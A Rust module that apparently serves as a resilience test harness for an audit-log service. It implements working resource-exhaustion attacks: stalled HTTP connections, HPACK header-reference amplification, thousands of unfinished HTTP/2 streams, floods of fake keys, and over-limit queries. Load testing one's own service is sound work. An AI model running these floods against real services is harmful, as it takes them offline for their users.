//! Attacks that exhaust shared resources: connections, memory, request permits, reads, key lookups and streams. When
//! the service takes a resource back, the attack acquires it again, until the time is over.

use std::collections::BTreeMap;
use std::io;
use std::time::{Duration, Instant};

use auditlog::domain::{BASE62, Random};
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::Target;
use super::frames::{DATA, END_HEADERS, END_STREAM, HEADERS, Raw, WINDOW_UPDATE, frame, literal, string};
use super::http1::exchange;

const HEALTH: &str = "/grpc.health.v1.Health";
/// How often an attack checks its streams.
const TICK: Duration = Duration::from_millis(50);
/// The maximum number of unanswered streams on each connection of `made_up_keys`; the service allows 512.
const OPEN: usize = 400;

/// A well-formed key with a correct checksum that does not exist.
fn made_up_key(random: &Random) -> String {
    let body = format!("{}_{}", random.base62(12), "x".repeat(43));
    let crc = crc32fast::hash(body.as_bytes());
    let digit = |place: u32| char::from(BASE62[(crc / 62u32.pow(place) % 62) as usize]);
    format!("al_{body}{}", (0..6).rev().map(digit).collect::<String>())
}

/// The HPACK header block of a request.
fn head(target: &Target, method: &str, path: &str, more: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    literal(":method", method.as_bytes(), &mut block);
    literal(":scheme", b"http", &mut block);
    literal(":path", path.as_bytes(), &mut block);
    literal(":authority", target.address.to_string().as_bytes(), &mut block);
    more.iter().for_each(|(name, value)| literal(name, value.as_bytes(), &mut block));
    block
}

/// An HTTP/2 connection that replaces each stream that ends, and reconnects after it was closed.
struct Streams {
    target: Target,
    raw: Option<Raw>,
    /// Streams opened on the current connection.
    opened: u32,
    /// Streams that the service answered or reset. `closed` counts connections that it closed.
    over: usize,
    closed: usize,
}

impl Streams {
    fn new(target: &Target) -> Self {
        Self { target: target.clone(), raw: None, opened: 0, over: 0, closed: 0 }
    }

    /// Opens streams until `most` are open. `request` returns the frames of a stream.
    async fn fill(&mut self, most: usize, request: &mut impl FnMut(&Target, u32) -> Vec<u8>) {
        if self.raw.as_ref().is_none_or(|raw| raw.seen().is_closed) {
            self.closed += usize::from(self.raw.is_some());
            self.over += self.raw.take().map_or(0, |raw| raw.seen().over);
            self.opened = 0;
            // If the service refuses the connection, the next tick tries again.
            self.raw = Raw::open(&self.target, &[]).await.ok();
        }
        let Some(raw) = &mut self.raw else { return };
        if self.opened == 0 {
            // A large window lets all answers through.
            let mut bytes = Vec::new();
            frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000u32.to_be_bytes(), &mut bytes);
            let _ = raw.send(&bytes).await;
        }
        let missing = (most + raw.seen().over).saturating_sub(self.opened as usize);
        for _ in 0..missing {
            let bytes = request(&self.target, 2 * self.opened + 1);
            self.opened += 1;
            if raw.send(&bytes).await.is_err() {
                return;
            }
        }
    }

    fn summary(&self) -> String {
        let (over, left) = match self.raw.as_ref().map(Raw::seen) {
            Some(seen) => (self.over + seen.over, (self.opened as usize).saturating_sub(seen.over)),
            None => (self.over, 0),
        };
        format!("{over} streams answered or reset, {left} open in the end, {} connections closed", self.closed)
    }
}

/// Keeps `most` streams open on each of `connections` connections, and checks them every `tick`.
async fn keep_open(
    target: &Target,
    (connections, most): (usize, usize),
    (duration, tick): (Duration, Duration),
    mut request: impl FnMut(&Target, u32) -> Vec<u8>,
) -> String {
    let begun = Instant::now();
    let mut all: Vec<_> = (0..connections).map(|_| Streams::new(target)).collect();
    while begun.elapsed() < duration {
        for streams in &mut all {
            streams.fill(most, &mut request).await;
        }
        tokio::time::sleep(tick).await;
    }
    all.iter().map(Streams::summary).collect::<Vec<_>>().join("; ")
}

/// More connections than the service allows, each with a gRPC-Web health check whose body never arrives. Opens a
/// hundred more per second.
pub async fn stalled_health_checks(target: Target, duration: Duration) -> io::Result<String> {
    const CONNECTIONS: usize = 1_100;
    const OPENERS: usize = 10;
    /// The interval between two connections of one opener.
    const RENEWAL: Duration = Duration::from_millis(100);
    let request = format!(
        "POST {HEALTH}/Check HTTP/1.1\r\nHost: {}\r\nContent-Type: application/grpc-web+proto\r\nContent-Length: 100\r\n\r\n\0",
        target.address
    );
    allow_files();
    let begun = Instant::now();
    let mut openers = JoinSet::new();
    for _ in 0..OPENERS {
        let (address, request) = (target.address, request.clone());
        openers.spawn(async move {
            let open = async || {
                let mut stream = TcpStream::connect(address).await?;
                stream.write_all(request.as_bytes()).await?;
                io::Result::Ok(stream)
            };
            // No connection is dropped, because that would free a slot for another client.
            let mut held = Vec::new();
            while begun.elapsed() < duration {
                held.extend(open().await.ok());
                if held.len() >= CONNECTIONS / OPENERS {
                    tokio::time::sleep(RENEWAL).await;
                }
            }
            held.len()
        });
    }
    let opened: usize = openers.join_all().await.into_iter().sum();
    Ok(format!("{opened} connections opened"))
}

/// Raises the soft limit on open files of this process to the hard limit.
fn allow_files() {
    let allowed = getrlimit(Resource::Nofile);
    // If the hard limit is too low, fewer connections are opened.
    let _ = setrlimit(Resource::Nofile, Rlimit { current: allowed.maximum, maximum: allowed.maximum });
}

/// Calls without a key and without a body. One header enters the HPACK table once and is then referenced 3,700 times, a
/// byte each. Eight connections with 512 streams each.
pub async fn repeated_headers(target: Target, duration: Duration) -> io::Result<String> {
    const REFERENCES: usize = 3_700;
    /// Refers to the newest entry of HPACK's dynamic table. Source: RFC 7541, 2.3.3 and 6.1.
    const NEWEST: u8 = 0x80 | 62;
    let request = |target: &Target, stream: u32| {
        let mut block = head(target, "POST", &format!("{HEALTH}/Check"), &[("content-type", "application/grpc")]);
        if stream == 1 {
            block.push(0x40);
            string(b"a", &mut block);
            string(b"", &mut block);
        }
        block.resize(block.len() + REFERENCES, NEWEST);
        let mut bytes = Vec::new();
        frame(HEADERS, END_HEADERS, stream, &block, &mut bytes);
        bytes
    };
    Ok(keep_open(&target, (8, 512), (duration, TICK), request).await)
}

/// 330 uploads over one connection, with eight keys that do not exist and bodies that never arrive: more than the limit
/// on requests in flight.
pub async fn open_uploads(target: Target, duration: Duration) -> io::Result<String> {
    let random = Random::system();
    let keys: Vec<_> = (0..8).map(|_| format!("Bearer {}", made_up_key(&random))).collect();
    let path = format!("/v1/{}/audit-logs", target.organization);
    let request = |target: &Target, stream: u32| {
        let key = keys[stream as usize / 2 % keys.len()].as_str();
        let more = [("content-type", "application/json"), ("authorization", key)];
        let mut bytes = Vec::new();
        frame(HEADERS, END_HEADERS, stream, &head(target, "POST", &path, &more), &mut bytes);
        bytes
    };
    Ok(keep_open(&target, (1, 330), (duration, TICK), request).await)
}

/// Lists from 40 connections. One filters by 100 users and 100 resources, which is over the limit. The other uses the
/// largest allowed filter, 20 users and 50 resources, at a large offset. Errors: the service answers the first.
pub async fn pairs_of_filters(target: Target, duration: Duration) -> io::Result<String> {
    const CONNECTIONS: usize = 40;
    let Target { address, organization, key } = &target;
    let request = |users: usize, resources: usize| {
        let users: String = (0..users).map(|number| format!("userId=u{number}&")).collect();
        let resources: String = (0..resources).map(|number| format!("resourceId=r{number}&")).collect();
        format!(
            "GET /v1/{organization}/audit-logs?{users}{resources}limit=1&offset=40000 HTTP/1.1\r\nHost: {address}\r\n\
             Authorization: Bearer {key}\r\nConnection: close\r\n\r\n"
        )
    };
    let (too_many, most, begun) = (request(100, 100), request(20, 50), Instant::now());
    let mut all = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let (target, too_many, most) = (target.clone(), too_many.clone(), most.clone());
        all.spawn(async move {
            let mut counts = BTreeMap::<String, usize>::new();
            while begun.elapsed() < duration {
                let refused = exchange(&target, too_many.as_bytes()).await.unwrap_or_else(|error| error.to_string());
                if refused.starts_with("HTTP/1.1 200") {
                    return Err(io::Error::other("a list of 100 users and 100 resources is answered"));
                }
                let answered = exchange(&target, most.as_bytes()).await.unwrap_or_else(|error| error.to_string());
                [refused, answered].into_iter().for_each(|line| *counts.entry(line).or_default() += 1);
            }
            Ok(counts)
        });
    }
    let mut counts = BTreeMap::<String, usize>::new();
    while let Some(ended) = all.join_next().await {
        ended
            .expect("an attack does not panic")?
            .into_iter()
            .for_each(|(line, times)| *counts.entry(line).or_default() += times);
    }
    Ok(format!("{counts:?}"))
}

/// Requests with a different non-existent key each, as fast as the service answers.
pub async fn made_up_keys(target: Target, duration: Duration) -> io::Result<String> {
    let (path, random) = (format!("/v1/{}/audit-logs", target.organization), Random::system());
    let request = |target: &Target, stream: u32| {
        let bearer = format!("Bearer {}", made_up_key(&random));
        let mut bytes = Vec::new();
        let block = head(target, "GET", &path, &[("authorization", &bearer)]);
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &block, &mut bytes);
        bytes
    };
    Ok(keep_open(&target, (3, OPEN), (duration, Duration::from_millis(5)), request).await)
}

/// 130 health watches on one connection, more than the limit for all callers without a key.
pub async fn watched_health(target: Target, duration: Duration) -> io::Result<String> {
    let request = |target: &Target, stream: u32| {
        let more = [("content-type", "application/grpc"), ("te", "trailers")];
        let mut bytes = Vec::new();
        frame(HEADERS, END_HEADERS, stream, &head(target, "POST", &format!("{HEALTH}/Watch"), &more), &mut bytes);
        frame(DATA, END_STREAM, stream, &[0; 5], &mut bytes);
        bytes
    };
    Ok(keep_open(&target, (1, 130), (duration, TICK), request).await)
}
